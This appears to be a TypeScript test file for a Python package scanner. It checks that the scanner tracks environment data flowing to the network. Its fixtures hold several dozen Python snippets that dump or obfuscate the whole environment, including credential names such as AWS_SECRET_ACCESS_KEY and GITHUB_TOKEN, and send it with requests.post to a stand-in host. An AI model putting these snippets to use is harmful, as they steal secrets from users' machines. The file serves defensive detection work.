import assert from 'node:assert/strict';
import { test } from 'node:test';
import { factsOf } from '../../../../test/builders/python-package.ts';
import { TAINT } from '../values/taint.ts';

/** Ways to read the environment as a whole: each leaves it, in whatever form, in `x`. */
const WHOLE: Readonly<Record<string, string>> = {
  'dict(os.environ)': 'x = dict(os.environ)',
  copy: 'x = os.environ.copy()',
  '{**}': 'x = {**os.environ}',
  json: 'import json\nx = json.dumps(dict(os.environ))',
  'json direct': 'import json\nx = json.dumps(os.environ.copy())',
  environb: 'x = os.environb',
  str: 'x = str(os.environ)',
  repr: 'x = repr(os.environ)',
  fstring: 'x = f"{os.environ}"',
  percent: 'x = "%s" % os.environ',
  format: 'x = "{}".format(os.environ)',
  comp: 'x = {k: v for k, v in os.environ.items()}',
  'comp list': 'x = [k + "=" + v for k, v in os.environ.items()]',
  join: 'x = "\\n".join(f"{k}={v}" for k, v in os.environ.items())',
  loop: 'x = ""\nfor k, v in os.environ.items():\n  x += k + v',
  'loop keys': 'x = ""\nfor k in os.environ:\n  x += k + os.environ[k]',
  'loop list append': 'x = []\nfor k in os.environ:\n  x.append(os.environ.get(k))',
  'loop dict': 'x = {}\nfor k in os.environ:\n  x[k] = os.environ[k]',
  'loop keys()': 'x = {}\nfor k in os.environ.keys():\n  x[k] = os.environ[k]',
  update: 'x = {}\nx.update(os.environ)',
  'list items': 'x = list(os.environ.items())',
  map: 'x = list(map(str, os.environ.items()))',
  alias: 'from os import environ as e\nx = dict(e)',
  getattr: 'x = dict(getattr(os, "envi" + "ron"))',
  b64: 'import base64\nx = base64.b64encode(str(dict(os.environ)).encode())',
  _data: 'x = os.environ._data',
  __dict__: 'x = os.environ.__dict__',
  'nt.environ': 'import posix\nx = posix.environ',
  'subprocess env': 'import subprocess\nx = subprocess.check_output("env", shell=True)',
  'subprocess printenv': 'import subprocess\nx = subprocess.run(["printenv"], capture_output=True).stdout',
  'popen set': 'x = os.popen("set").read()',
  'popen env': 'x = os.popen("env | base64").read()',
  'cmd set': 'import subprocess\nx = subprocess.getoutput("cmd /c set")',
  export: 'import subprocess\nx = subprocess.getoutput("export -p")',
  'powershell env': 'import subprocess\nx = subprocess.getoutput("powershell gci env:")',
  'proc environ': 'x = open("/proc/self/environ").read()',
  pprint: 'import pprint\nx = pprint.pformat(dict(os.environ))',
  zip: 'x = dict(zip(os.environ.keys(), os.environ.values()))',
  filter: 'x = {k: v for k, v in os.environ.items() if "KEY" in k}',
  'getenv loop': 'x = {n: os.getenv(n) for n in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]}',
  func: 'def f():\n  return dict(os.environ)\nx = f()',
  deepcopy: 'import copy\nx = copy.deepcopy(os.environ)',
  'or dict': 'x = os.environ | {}',
  pickle: 'import pickle\nx = pickle.dumps(dict(os.environ))',
  dotenv: 'import dotenv\nx = dotenv.dotenv_values()',
  'file hop': 'open("/tmp/q","w").write(str(dict(os.environ)))\nx = open("/tmp/q").read()',
};

for (const [why, source] of Object.entries(WHOLE)) {
  test(`follows the environment to the network by ${why}`, async () => {
    const facts = await factsOf({
      'demo/__init__.py': `import os, requests\n${source}\nrequests.post('https://x.example.invalid', data=x)`,
    });
    const calls = facts.filter((fact) => fact.kind === 'call');
    assert.ok(calls.some(({ role }) => role === 'environment-read'));
    const [request] = calls.filter(({ role }) => role === 'network');
    assert.ok(((request?.taint ?? 0) & (TAINT.allEnvironment | TAINT.environment)) !== 0);
  });
}

for (const [why, source] of [
  ['a test for one variable', "x = 'CI' in os.environ"],
  ['a command that is only called env-something', "import subprocess\nsubprocess.run(['envsubst'])"],
] as const) {
  test(`takes ${why} for no reading of the environment`, async () => {
    const facts = await factsOf({ 'demo/__init__.py': `import os\n${source}` });
    assert.ok(!facts.some((fact) => fact.kind === 'call' && fact.role === 'environment-read'));
  });
}
